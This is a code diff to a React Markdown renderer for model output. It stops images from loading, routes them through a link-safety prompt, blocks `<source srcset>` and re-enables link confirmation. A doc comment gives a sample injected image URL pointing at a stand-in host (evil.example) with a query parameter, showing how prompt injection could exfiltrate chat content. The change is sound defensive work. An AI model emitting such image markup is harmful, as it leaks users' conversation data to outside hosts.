@@ -1,11 +1,52 @@
 "use client";
 
-import { Streamdown } from "streamdown";
+import { createContext, useContext, type ComponentProps } from "react";
+import { defaultComponents, Streamdown, type Components, type ExtraProps } from "streamdown";
 import { codeHighlighter } from "@/lib/client/code-highlighter";
+import { imageAsLink } from "@/lib/client/markdown-policy";
 
 const PLUGINS = { code: codeHighlighter };
+const StreamdownLink = defaultComponents.a;
+/** True inside a link of the answer, where an image must not become a second, nested link. */
+const InsideLink = createContext(false);
 
-/** Model output as Markdown, rendered incrementally while it streams (unfinished blocks render cleanly). */
+function LinkWithContext(props: ComponentProps<"a"> & ExtraProps) {
+  return (
+    <InsideLink.Provider value={true}>
+      <StreamdownLink {...props} />
+    </InsideLink.Provider>
+  );
+}
+
+/**
+ * Images in model output are never loaded (an injected `![](https://evil.example/?q=…)` would send
+ * the chat off-site without a click): each becomes a link, labelled with its alt text, that goes
+ * through the same link-safety prompt as every other link of an answer. Covers Markdown images and
+ * raw `<img>` alike (both reach this component). An image inside a link (`[![badge](…)](…)`) shows
+ * only its label: the surrounding link already leads somewhere.
+ */
+function ImageAsLink({ src, alt }: ComponentProps<"img"> & ExtraProps) {
+  const insideLink = useContext(InsideLink);
+  const link = imageAsLink(src, alt);
+  if (!link.href || insideLink) return <span data-markdown-image="unlinked">{link.label}</span>;
+  return (
+    <StreamdownLink href={link.href} rel={link.rel} target={link.target} data-markdown-image="link">
+      {link.label}
+    </StreamdownLink>
+  );
+}
+
+/** `<source srcset>` (allowed inside `<picture>` by the sanitizer) must not load anything either. */
+function NoSource() {
+  return null;
+}
+
+const COMPONENTS: Components = { a: LinkWithContext, img: ImageAsLink, source: NoSource };
+
+/**
+ * Model output as Markdown, rendered incrementally while it streams (unfinished blocks render cleanly).
+ * Link safety stays on (Streamdown's default): a link opens only after a prompt that shows its URL.
+ */
 export function MarkdownContent({ text, streaming, className = "" }: { text: string; streaming: boolean; className?: string }) {
   return (
     <Streamdown
@@ -14,8 +55,8 @@ export function MarkdownContent({ text, streaming, className = "" }: { text: str
       isAnimating={streaming}
       caret={streaming ? "block" : undefined}
       plugins={PLUGINS}
+      components={COMPONENTS}
       controls={{ code: true, table: true, mermaid: false }}
-      linkSafety={{ enabled: false }}
     >
       {text}
     </Streamdown>
